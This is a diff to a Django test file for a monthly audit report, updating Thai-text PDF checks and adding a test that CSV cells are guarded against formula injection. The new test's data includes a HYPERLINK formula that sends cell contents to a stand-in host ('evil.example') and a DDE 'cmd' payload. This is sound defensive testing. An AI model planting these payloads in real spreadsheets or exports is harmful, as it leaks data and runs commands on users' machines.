@@ -104,8 +104,10 @@ def test_this_months_report_lists_signed_documents_and_the_failure_with_its_caus
 
     text = subprocess.run(["pdftotext", "-layout", str(pdf), "-"], capture_output=True, text=True, check=True).stdout
     assert "รายงาน" in text and "สาเหตุ" in text
-    # Table cells wrap, and pdftotext splits sara am (ำ), so look for a run of Thai without it.
-    assert "#2 บันทึกข้อความ ลงนามไม่" in text.replace(f"#{failing['id']} ", "#2 ")
+    # Exact Thai text, ำ included (it used to be dropped: "ลงนามไม่สาเร็จ", "ผู้อานวยการ"); the cell wraps.
+    plain = subprocess.run(["pdftotext", str(pdf), "-"], capture_output=True, text=True, check=True).stdout
+    assert "#2 บันทึกข้อความ ลงนามไม่\nสำเร็จ" in plain.replace(f"#{failing['id']} ", "#2 ")
+    assert "จัดทำ" in plain and "การกระทำ / action" in plain
     assert "certificate_not_usable" in text and "revoked" in text
     assert "signing.signature_made" in text
 
@@ -126,3 +128,28 @@ def test_certificate_filters_and_date_range_variant(personas, tmp_path):
     users = {r["actor"] for r in _rows(tmp_path / "u" / f"report-{today}_{today}.csv", "certificates")}
     assert "director" in users
     assert all(personas[u].org_unit_id is not None for u in users)
+
+
+def test_formula_cells_in_the_csv_are_neutralised(personas, api_for, pdf_bytes, tmp_path):
+    from django.db import transaction
+
+    import audit
+
+    titles = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\tx", "\r=1"]
+    with transaction.atomic():
+        for i, title in enumerate(titles):
+            audit.record(actor=personas["requester"], action="document.created", target=("workflows.document", i))
+            audit.record(
+                actor=title, action="document.commented", target=("workflows.document", i), details={"comment": title}
+            )
+    month = timezone.localdate().strftime("%Y-%m")
+    call_command("monthly_report", "--month", month, "--out", str(tmp_path))
+    rows = _rows(tmp_path / f"report-{month}.csv", "transactions")
+    actors = {row["actor"] for row in rows if row["action"] == "document.commented"}
+    assert actors == {"'" + title for title in titles}
+    for row in rows:
+        for value in row.values():
+            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
+    sheet = load_workbook(tmp_path / f"report-{month}.xlsx", read_only=True)["transactions"]
+    cells = [cell for row in sheet.iter_rows(values_only=True) for cell in row if isinstance(cell, str)]
+    assert titles[0] in cells  # the XLSX keeps text cells as text (inline strings), never as formulas
